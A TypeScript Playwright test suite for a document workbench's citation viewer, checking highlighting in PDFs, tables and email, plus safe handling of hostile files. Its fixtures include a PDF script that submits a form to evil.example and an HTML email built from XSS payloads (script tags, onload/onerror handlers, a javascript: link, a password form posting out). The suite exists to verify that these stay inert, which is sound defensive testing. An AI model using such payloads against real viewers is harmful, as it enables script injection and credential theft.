/// <reference lib="dom" />
import { createHash } from 'node:crypto'
import { existsSync } from 'node:fs'
import { copyFile, mkdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { zipSync } from 'fflate'
import type { Locator, Page } from 'playwright'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Collection } from '../core/contract/collections.ts'
import type { Dataset, TestCase } from '../core/contract/datasets.ts'
import type { Document } from '../core/contract/documents.ts'
import type { Job } from '../core/contract/jobs.ts'
import { writePdf } from './pdf-file.ts'
import { browserPath, demoCorpus, expectAccessible, root, startWorkbench, type Workbench } from './workbench.ts'

const screenshots = process.env.QUARRY_SCREENSHOTS
const sharedDocuments = join(root, '../shared/data/documents')
const scan = join(sharedDocuments, 'markitdown/markitdown-ocr/tests/ocr_test_data/pdf_scanned_invoice.pdf')
const workbook = join(sharedDocuments, 'unstructured/stanley-cups.xlsx')
const turned = 'The anchor chain was measured again in October.'
const mail = 'The loan of the profiler ends on 30 June 2025.'

describe.skipIf(!browserPath)('a click on a citation', () => {
  let bench: Workbench
  let collection: Collection
  let documents: Document[]
  const files = (name: string): string => join(bench.workspace, 'originals', name)

  beforeAll(async () => {
    bench = await startWorkbench()
    await mkdir(join(bench.workspace, 'originals'))
    collection = await api<Collection>('POST', '/collections', { name: 'Papers' })
    for (const name of ['salinity-tide-report-2024.pdf', 'tide-gauge-2025-03.csv']) {
      await copyFile(join(demoCorpus, 'science', name), files(name))
    }
    await copyFile(join(demoCorpus, 'operations/seawater-system-manual.pdf'), files('changed.pdf'))
    const page = (rotate: 0 | 90 | 180 | 270) => ({
      lines: ['Mooring log', turned.replace('October', `October, turned by ${rotate}`), 'Nothing else was found.'],
      rotate,
      cropBox: [40, 500, 560, 780] as [number, number, number, number],
    })
    await writeFile(files('turned.pdf'), writePdf([page(90), page(180), page(270), page(0)]))
    const script = 'app.alert("run"); this.submitForm("https://evil.example/")'
    const first = { lines: ['See the catalogue of the station.'], link: 'https://evil.example/catalogue', script }
    const many = Array.from({ length: 999 }, (_, index) => ({
      lines: [`Entry ${index + 2}`, `Reading number ${index + 2} of the tide gauge was ${(index * 7) % 400} cm.`],
    }))
    await writeFile(files('thousand.pdf'), writePdf([first, ...many]))
    await writeFile(files('loan.eml'), hostileLetter())
    await writeFile(files('pack.zip'), zipSync({ 'inner/plan.md': Buffer.from('# Plan\n\nBoats are painted in May.') }))
    for (const path of [scan, workbook]) if (existsSync(path)) await copyFile(path, files(path.split('/').at(-1) ?? ''))
  })
  afterAll(() => bench[Symbol.asyncDispose]())

  it('finds its documents read', async () => {
    const { jobId } = await api<{ jobId: string }>('POST', '/ingest', {
      collectionId: collection.id,
      paths: [join(bench.workspace, 'originals')],
    })
    await expect
      .poll(async () => (await api<Job>('GET', `/jobs/${jobId}`)).status, { timeout: 280_000, interval: 500 })
      .toBe('done')
    documents = (await api<{ documents: Document[] }>('GET', `/documents?collectionId=${collection.id}`)).documents
    // A scan is read by recognition, which takes its time on a busy machine.
  }, 300_000)

  it('opens the page of a PDF with the words marked where they stand, and goes from citation to citation', async () => {
    const report = named('salinity-tide-report-2024.pdf')
    const text = await textOf(report)
    // A sentence at the beginning, and one on the last page, as an answer would cite them.
    const sentences = [...text.text.matchAll(/[A-Z][^.!?\n]{60,160}\./g)].map(({ index, 0: words }) => ({
      index,
      words,
    }))
    const [early] = sentences
    const late = sentences.at(-1)
    if (!early || !late) throw new Error('no sentences')
    const dataset = await api<Dataset>('POST', '/datasets', { name: 'Cited', collectionId: collection.id })
    const expected = [early, late].map(({ index, words }) => ({
      documentId: report.id,
      start: index,
      end: index + words.length,
    }))
    const made = await api<TestCase>('POST', `/datasets/${dataset.id}/cases`, {
      case: { question: 'What is cited?', expected },
    })

    await using opened = await bench.open()
    const { page, complaints } = opened
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await goTo(
      page,
      `#/datasets/${dataset.id}/${made.id}`,
      page.getByRole('button', { name: 'Open in the document' }).first(),
    )
    await page.getByText(early.words.slice(0, 40), { exact: false }).first().waitFor()
    expect(asked.filter((url) => /pdf/.test(url))).toEqual([])
    await page.getByRole('button', { name: 'Open in the document' }).first().click()

    const inspector = page.getByRole('complementary', { name: 'Inspector' })
    await shownPage(inspector, 1)
    await expectMarked(page, early.words)
    await expectAccessible(page)
    await capture(page, 'citation-pdf')

    await inspector.getByRole('button', { name: /^Next \(n\)/ }).click()
    await expect.poll(() => marksInView(page), { timeout: 20_000 }).toBeGreaterThan(0)
    await expectMarked(page, late.words)
    await page.keyboard.press('p')
    await expectMarked(page, early.words)

    await inspector.getByRole('radio', { name: 'Text', exact: true }).click()
    await expect
      .poll(() =>
        inspector
          .locator('mark')
          .allTextContents()
          .then((parts) => squeezed(parts.join(''))),
      )
      .toBe(squeezed(early.words))
    await page.reload()
    await openAt(page, report, early.index, early.index + early.words.length)
    await inspector.locator('mark').first().waitFor()
    await inspector.getByRole('radio', { name: 'Page', exact: true }).click()
    await shownPage(inspector, 1)
    await expectMarked(page, early.words)

    const others = asked.filter(
      (url) =>
        new URL(url).origin !== new URL(bench.url).origin && !url.startsWith('data:') && !url.startsWith('blob:'),
    )
    expect(others).toEqual([])
    expect(complaints).toEqual([])
  })

  it('is worked by keyboard, zooms, and goes to a page', async () => {
    await using opened = await bench.open()
    const { page, complaints } = opened
    await openAt(page, named('salinity-tide-report-2024.pdf'))
    const inspector = page.getByRole('complementary', { name: 'Inspector' })
    await shownPage(inspector, 1)
    const pages = inspector.getByRole('region', { name: /^Pages of/ })
    const width = async (): Promise<number> => (await pages.locator('.pdf-page').first().boundingBox())?.width ?? 0
    const fitted = await width()
    await pages.focus()
    await page.keyboard.press('+')
    await expect.poll(width).toBeGreaterThan(fitted)
    await page.keyboard.press('0')
    await expect.poll(width).toBe(fitted)
    await page.keyboard.press('-')
    await expect.poll(width).toBeLessThan(fitted)
    await page.keyboard.press('0')
    const field = inspector.getByRole('textbox', { name: /^Page, of/ })
    await page.keyboard.press('ArrowRight')
    await expect.poll(() => field.inputValue()).toBe('2')
    await page.keyboard.press('ArrowLeft')
    await expect.poll(() => field.inputValue()).toBe('1')
    await field.fill('2')
    await field.press('Enter')
    await expect.poll(() => field.inputValue()).toBe('2')
    await field.fill('900')
    await field.press('Enter')
    await expect.poll(() => field.inputValue()).toBe('2')
    await page.keyboard.press('Escape')
    expect(complaints).toEqual([])
  })

  it('marks the place on pages that are turned and cut', async () => {
    const document = named('turned.pdf')
    const { text } = await textOf(document)
    await using opened = await bench.open()
    const { page, complaints } = opened
    for (const [index, rotate] of [90, 180, 270, 0].entries()) {
      const words = turned.replace('October', `October, turned by ${rotate}`)
      const start = text.indexOf(words)
      expect(start, `${rotate}`).toBeGreaterThanOrEqual(0)
      await openAt(page, document, start, start + words.length)
      await shownPage(page.getByRole('complementary', { name: 'Inspector' }), index + 1)
      await expectMarked(page, words)
    }
    await capture(page, 'citation-turned')
    expect(complaints).toEqual([])
  })

  it.skipIf(!existsSync(scan))('marks the box of a line on a scanned page (needs ../shared/data)', async () => {
    const document = named('pdf_scanned_invoice.pdf')
    const { text } = await textOf(document)
    const words = /[A-Z][\w ]{12,}/.exec(text)
    if (!words) throw new Error('nothing was recognised')
    await using opened = await bench.open({ width: 1920, height: 1080 })
    const { page, complaints } = opened
    await openAt(page, document, words.index, words.index + words[0].length)
    await shownPage(page.getByRole('complementary', { name: 'Inspector' }), 1)
    await expect.poll(() => page.locator('.pdf-box').count()).toBeGreaterThan(0)
    // There is writing in the box: the picture under it is not blank.
    expect(await inkIn(page, '.pdf-box')).toBeGreaterThan(0.01)
    await capture(page, 'citation-scan')
    expect(complaints).toEqual([])
  })

  it('opens a thousand pages at once and keeps few of them', async () => {
    const document = named('thousand.pdf')
    const { text } = await textOf(document, 'Reading number 700 of')
    const words = /Reading number 700 of the tide gauge was \d+ cm\./.exec(text.text)
    if (!words) throw new Error('no such reading')
    const start = text.textStart + words.index
    await using opened = await bench.open()
    const { page, complaints } = opened
    const began = Date.now()
    await openAt(page, document, start, start + words[0].length)
    const inspector = page.getByRole('complementary', { name: 'Inspector' })
    await shownPage(inspector, 700)
    const milliseconds = Date.now() - began
    await expectMarked(page, words[0])
    expect(await page.locator('.pdf-page').count()).toBeLessThan(12)
    const pages = inspector.getByRole('region', { name: /^Pages of/ })
    await pages.evaluate((box) => (box.scrollTop = box.scrollHeight))
    await shownPage(inspector, 1000)
    await pages.evaluate((box) => (box.scrollTop = 0))
    await shownPage(inspector, 1)
    expect(await page.locator('.pdf-page').count()).toBeLessThan(12)
    const bytes = await page.evaluate(
      () => (performance as unknown as { memory: { usedJSHeapSize: number } }).memory.usedJSHeapSize,
    )
    if (process.env.QUARRY_FIGURES)
      console.info({ thousandPages: { milliseconds, heapMb: bytes / 2 ** 20, bytes: document.size } })

    // What the file links to is shown as text; nothing of it was followed, and no script of it ran.
    await inspector.getByRole('button', { name: '1 link' }).click()
    await page.getByRole('menuitem', { name: 'https://evil.example/catalogue' }).waitFor()
    await page.keyboard.press('Escape')
    expect(await page.locator('.pdf-page a').count()).toBe(0)
    expect(complaints).toEqual([])
  })

  it('makes a test case of words that are selected on a page, and of some that are selected in the text', async () => {
    const document = named('thousand.pdf')
    const { text } = await textOf(document, 'Reading number 42 of')
    const words = /Reading number 42 of the tide gauge/.exec(text.text)
    if (!words) throw new Error('no such reading')
    const start = text.textStart + words.index
    await using opened = await bench.open({ width: 1920, height: 1080 })
    const { page, complaints } = opened
    await openAt(page, document, start, start + 'Reading num'.length)
    const inspector = page.getByRole('complementary', { name: 'Inspector' })
    await shownPage(inspector, 42)
    await expectMarked(page, 'Reading num')
    await selectIn(page.locator('.pdf-page[data-page="42"] .pdf-words span').filter({ hasText: 'Reading' }), 8, 17)
    await inspector.getByRole('button', { name: 'Add selection to test cases' }).click()
    const dialog = page.getByRole('dialog')
    await dialog.getByText('number 42').waitFor()
    await expectAccessible(page)
    await capture(page, 'citation-case')
    await dialog.getByRole('button', { name: 'Add', exact: true }).click()
    await dialog.getByText('Type the question').waitFor()
    await dialog.getByRole('textbox', { name: /^Question/ }).fill('Which reading is it?')
    await dialog.getByRole('button', { name: /Dataset/ }).click()
    await page.getByRole('option', { name: 'A new dataset' }).click()
    await dialog.getByRole('button', { name: 'Add', exact: true }).click()
    await dialog.waitFor({ state: 'detached' })
    await page.getByText(/^Saved as a test case in/).waitFor()

    await inspector.getByRole('radio', { name: 'Text', exact: true }).click()
    await selectIn(inspector.locator('.reader-text [data-start]').filter({ hasText: 'Entry 43' }), 0, 8)
    await inspector.getByRole('button', { name: 'Add selection to test cases' }).click()
    await dialog.getByRole('textbox', { name: /^Question/ }).fill('What comes after 42?')
    await dialog.getByRole('button', { name: 'Add', exact: true }).press('Enter')
    await dialog.waitFor({ state: 'detached' })
    await inspector.getByRole('radio', { name: 'Page', exact: true }).click()

    const { datasets } = await api<{ datasets: Dataset[] }>('GET', '/datasets')
    const made = datasets.find((dataset) => dataset.name === 'Questions about Papers')
    if (!made) throw new Error('no dataset was made')
    const { cases } = await api<{ cases: TestCase[] }>('GET', `/datasets/${made.id}/cases`)
    expect(cases.map(({ question, expected }) => [question, expected.map((span) => span.text)]).sort()).toEqual([
      ['What comes after 42?', ['Entry 43']],
      ['Which reading is it?', ['number 42']],
    ])
    const [span] = cases.find((each) => each.question.startsWith('Which'))?.expected ?? []
    expect(span).toMatchObject({ start: start + 8, end: start + 17 })
    expect(complaints).toEqual([])
  })

  it('shows tables of values as a grid with the cited cells marked', async () => {
    const document = named('tide-gauge-2025-03.csv')
    const { text } = await textOf(document)
    const lines = text.split('\n')
    const start = (lines[0]?.length ?? 0) + 1 + (lines[1]?.length ?? 0) + 1
    await using opened = await bench.open()
    const { page, complaints } = opened
    await openAt(page, document, start, start + (lines[2]?.length ?? 0))
    const grid = page.getByRole('complementary', { name: 'Inspector' }).locator('.block-grid')
    await grid.waitFor()
    const marked = await grid
      .locator('td[data-marked]')
      .evaluateAll((cells) => cells.map((cell) => [(cell as HTMLElement).dataset.cell, cell.textContent]))
    expect(marked.map(([, value]) => value).join(' | ')).toBe(lines[2])
    expect(marked[0]?.[0]).toBe('A3')
    expect(await grid.getByRole('columnheader').first().textContent()).toBe('A')
    expect(await grid.getByRole('rowheader').first().textContent()).toBe('1')
    await expectAccessible(page)
    await capture(page, 'citation-cells')
    expect(complaints).toEqual([])
  })

  it.skipIf(!existsSync(workbook))('marks cells where they stand on their sheet (needs ../shared/data)', async () => {
    const document = named('stanley-cups.xlsx')
    const { text } = await textOf(document)
    const start = text.indexOf('Flyers')
    await using opened = await bench.open()
    const { page, complaints } = opened
    await openAt(page, document, start, start + 'Flyers'.length)
    const cells = page.getByRole('complementary', { name: 'Inspector' }).locator('td[data-marked]')
    await expect.poll(() => cells.allTextContents()).toEqual(['Flyers'])
    expect(await cells.first().getAttribute('data-cell')).toMatch(/^A\d+$/)
    expect(complaints).toEqual([])
  })

  it('shows a hostile message as text: nothing in it runs, and nothing is fetched', async () => {
    const document = named('loan.eml')
    const { text } = await textOf(document)
    const start = text.indexOf(mail)
    expect(start).toBeGreaterThan(0)
    await using opened = await bench.open()
    const { page, complaints } = opened
    const outside: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith(new URL(bench.url).origin)) outside.push(request.url())
    })
    await openAt(page, document, start, start + mail.length)
    const inspector = page.getByRole('complementary', { name: 'Inspector' })
    await expect
      .poll(() =>
        inspector
          .locator('mark')
          .allTextContents()
          .then((parts) => parts.join('')),
      )
      .toBe(mail)
    const facts = inspector.locator('.block-facts')
    await facts.getByText('Ada').waitFor()
    await expectAccessible(page)
    await capture(page, 'citation-mail')
    expect(await inspector.locator('img, iframe, script, object, svg image, form').count()).toBe(0)
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
    expect(outside.filter((url) => !url.startsWith('data:') && !url.startsWith('blob:'))).toEqual([])
    expect(complaints).toEqual([])
  })

  it('gives the original as a file, also out of an archive', async () => {
    await using opened = await bench.open()
    const { page, complaints } = opened
    for (const [name, bytes] of [
      ['salinity-tide-report-2024.pdf', await readFile(files('salinity-tide-report-2024.pdf'))],
      ['plan.md', Buffer.from('# Plan\n\nBoats are painted in May.')],
    ] as const) {
      await openAt(page, named(name))
      const saved = page.waitForEvent('download')
      await page
        .getByRole('complementary', { name: 'Inspector' })
        .getByRole('button', { name: 'Save original' })
        .click()
      const download = await saved
      expect(download.suggestedFilename()).toBe(name)
      expect(hashOf(await readFile(await download.path()))).toBe(hashOf(bytes))
    }
    expect(complaints).toEqual([])
  })

  it('falls back to the text where the file is not what was read', async () => {
    const document = named('changed.pdf')
    const { text } = await textOf(document)
    await writeFile(files('changed.pdf'), writePdf([{ lines: ['Something else altogether.'] }]))
    const start = text.indexOf('.') + 2
    await using opened = await bench.open()
    const { page, complaints } = opened
    await openAt(page, document, start, start + 30)
    const inspector = page.getByRole('complementary', { name: 'Inspector' })
    await inspector.getByText('is not what was read when it was indexed', { exact: false }).waitFor()
    await expect
      .poll(() =>
        inspector
          .locator('mark')
          .allTextContents()
          .then((parts) => parts.join('').length),
      )
      .toBeGreaterThan(10)
    expect(await inspector.locator('.pdf-page').count()).toBe(0)
    await expectAccessible(page)
    await capture(page, 'citation-changed')
    expect(complaints).toEqual([])
  })

  it('is sound in the dark, in a large window, and at 200 %', async () => {
    const report = named('salinity-tide-report-2024.pdf')
    const { text } = await textOf(report)
    const words = /[A-Z][^.!?\n]{60,160}\./.exec(text)
    if (!words) throw new Error('no sentence')
    for (const [name, options] of [
      ['citation-pdf-dark', { colorScheme: 'dark' }],
      ['citation-pdf-dark-large', { colorScheme: 'dark', width: 1920, height: 1080 }],
      ['citation-pdf-large', { width: 1920, height: 1080 }],
      ['citation-pdf-narrow', { width: 640, height: 400 }],
    ] as const) {
      await using opened = await bench.open(options)
      const { page, complaints } = opened
      await openAt(page, report, words.index, words.index + words[0].length)
      await shownPage(page.getByRole('complementary', { name: 'Inspector' }), 1)
      await expectMarked(page, words[0])
      await expectAccessible(page)
      await capture(page, name)
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)
      expect(overflow, name).toBeLessThanOrEqual(0)
      expect(complaints, name).toEqual([])
    }
  })

  function named(name: string): Document {
    const found = documents.find((document) => document.name === name)
    if (!found)
      throw new Error(`${name} was not read: ${documents.map((each) => `${each.name} ${each.status}`).join(', ')}`)
    return found
  }

  async function textOf(document: Document): Promise<{ text: string; textStart: number }>
  async function textOf(document: Document, around: string): Promise<{ text: { text: string; textStart: number } }>
  async function textOf(document: Document, around?: string): Promise<unknown> {
    const read = (start: number) =>
      api<{ text: string; textStart: number; textLength: number }>(
        'GET',
        `/documents/${document.id}/text?start=${start}&end=${start}&around=200000`,
      )
    const first = await read(0)
    if (around === undefined) return first
    for (let at = 0; at < first.textLength; at += 150_000) {
      const part = await read(at)
      if (part.text.includes(around)) return { text: part }
    }
    throw new Error(`“${around}” is not in ${document.name}`)
  }

  function placeOf(document: Document, start?: number, end?: number): string {
    const span = start === undefined ? '' : `?start=${start}&end=${end}`
    return `#/library/${collection.id}/${document.id}${span}`
  }

  async function openAt(page: Page, document: Document, start?: number, end?: number): Promise<void> {
    const inspector = page.getByRole('complementary', { name: 'Inspector' })
    await goTo(page, placeOf(document, start, end), inspector)
  }

  async function api<Answer>(method: string, path: string, body?: unknown): Promise<Answer> {
    const { origin, hash } = new URL(bench.url)
    const response = await fetch(`${origin}/api/v1${path}`, {
      method,
      headers: { authorization: `Bearer ${hash.replace('#token=', '')}`, 'content-type': 'application/json' },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    })
    if (!response.ok) throw new Error(`${path}: ${await response.text()}`)
    return (await response.json()) as Answer
  }
})

/** A page that has just been opened goes to its first place by itself: asked for until what is wanted is there. */
async function goTo(page: Page, hash: string, wanted: Locator): Promise<void> {
  const isThere = async (): Promise<boolean> => {
    await page.evaluate((place) => {
      if (location.hash !== place) location.hash = place
    }, hash)
    return wanted.isVisible()
  }
  await expect.poll(isThere, { timeout: 60_000, interval: 300 }).toBe(true)
  expect(await page.evaluate(() => location.hash)).toBe(hash)
}

/** The page is drawn, and in view. */
async function shownPage(inspector: Locator, number: number): Promise<void> {
  await inspector.locator(`.pdf-page[data-page="${number}"][data-drawn]`).waitFor({ timeout: 60_000 })
  await expect
    .poll(() =>
      inspector.locator(`.pdf-page[data-page="${number}"]`).evaluate((page) => {
        const box = page.closest('.pdf-scroller')?.getBoundingClientRect()
        const own = page.getBoundingClientRect()
        return box !== undefined && own.top < box.bottom && own.bottom > box.top
      }),
    )
    .toBe(true)
}

async function marksInView(page: Page): Promise<number> {
  return page.locator('.pdf-mark').evaluateAll((marks) => {
    const box = document.querySelector('.pdf-scroller')?.getBoundingClientRect()
    return marks.filter((mark) => {
      const own = mark.getBoundingClientRect()
      return box !== undefined && own.top < box.bottom - 4 && own.bottom > box.top + 4
    }).length
  })
}

/**
 * The cited words are marked where the library's own layer of words has them, nothing else is, the mark is inside of the
 * element's box, there is ink under it, and it is in view.
 */
async function expectMarked(page: Page, cited: string): Promise<void> {
  const wanted = squeezed(cited)
  await expect.poll(async () => squeezed((await underMarks(page)).words), { timeout: 30_000 }).toBe(wanted)
  const { outside } = await underMarks(page)
  expect(outside).toBe(0)
  await expect.poll(() => marksInView(page)).toBeGreaterThan(0)
  await expect.poll(() => inkIn(page, '.pdf-mark')).toBeGreaterThan(0.02)
}

/** What of the words on the pages lies under the marks, letter by letter, and how many marks lie outside of a box. */
async function underMarks(page: Page): Promise<{ words: string; outside: number }> {
  return page.evaluate(() => {
    let words = ''
    let outside = 0
    for (const frame of document.querySelectorAll('.pdf-page[data-cited]')) {
      const rects = (selector: string): DOMRect[] =>
        [...frame.querySelectorAll(selector)].map((each) => each.getBoundingClientRect())
      const marks = rects('.pdf-mark')
      const boxes = rects('.pdf-box')
      const holds = (rect: DOMRect, x: number, y: number): boolean =>
        x >= rect.left && x <= rect.right && y >= rect.top && y <= rect.bottom
      for (const mark of marks) {
        const [x, y] = [mark.left + mark.width / 2, mark.top + mark.height / 2]
        if (!boxes.some((box) => holds(box, x, y))) outside += 1
      }
      for (const piece of frame.querySelectorAll('.pdf-words span')) {
        const text = piece.firstChild
        if (!(text instanceof Text)) continue
        for (let index = 0; index < text.length; index += 1) {
          const range = document.createRange()
          range.setStart(text, index)
          range.setEnd(text, index + 1)
          const own = range.getBoundingClientRect()
          const [x, y] = [own.left + own.width / 2, own.top + own.height / 2]
          if (marks.some((mark) => holds(mark, x, y))) words += text.data[index]
        }
      }
    }
    return { words, outside }
  })
}

/** Share of dark pixels of the drawn page under the first element that matches. */
async function inkIn(page: Page, selector: string): Promise<number> {
  return page
    .locator(selector)
    .first()
    .evaluate((element) => {
      const canvas = element.closest('.pdf-page')?.querySelector('canvas')
      if (!canvas) return 0
      const own = element.getBoundingClientRect()
      const all = canvas.getBoundingClientRect()
      const ratio = canvas.width / all.width
      const [width, height] = [Math.max(1, own.width * ratio), Math.max(1, own.height * ratio)]
      const data = canvas
        .getContext('2d')
        ?.getImageData((own.left - all.left) * ratio, (own.top - all.top) * ratio, width, height).data
      if (!data) return 0
      let dark = 0
      for (let index = 0; index < data.length; index += 4) if ((data[index] ?? 255) < 128) dark += 1
      return dark / (data.length / 4)
    })
}

/** Selects characters of an element, as a drag over them would. */
async function selectIn(element: Locator, start: number, end: number): Promise<void> {
  await element.first().evaluate(
    (piece, [from, to]) => {
      const text = document.createTreeWalker(piece, NodeFilter.SHOW_TEXT).nextNode()
      if (!text) throw new Error('no text')
      const range = document.createRange()
      range.setStart(text, from)
      range.setEnd(text, to)
      const selection = window.getSelection()
      selection?.removeAllRanges()
      selection?.addRange(range)
    },
    [start, end] as const,
  )
}

async function capture(page: Page, name: string): Promise<void> {
  if (screenshots) await page.screenshot({ path: join(root, screenshots, `${name}.png`) })
}

const squeezed = (text: string): string =>
  text
    .normalize('NFKC')
    .toLowerCase()
    .replaceAll(/[^\p{L}\p{N}]/gu, '')
const hashOf = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex')

function hostileLetter(): string {
  const html = [
    '<html><head><script>window.pwned = 1</script><style>@import url(https://evil.example/s.css);</style></head>',
    '<body onload="window.pwned = 1" background="https://evil.example/b.png">',
    '<img src="https://evil.example/pixel.gif" onerror="window.pwned = 1"><iframe src="https://evil.example/"></iframe>',
    `<p>${mail}</p><p>&lt;img src=x onerror="window.pwned = 1"&gt;</p>`,
    '<form action="https://evil.example/"><input name="password" autofocus></form>',
    '<svg onload="window.pwned = 1"></svg><a href="javascript:window.pwned = 1">Click here to keep it</a>',
    '</body></html>',
  ].join('\r\n')
  return [
    'From: Ada <ada@example.org>',
    'To: Ben <ben@example.org>',
    'Date: Mon, 5 May 2025 10:00:00 +0000',
    'Subject: <b onclick="window.pwned=1">Loan</b>',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
    '',
  ].join('\r\n')
}
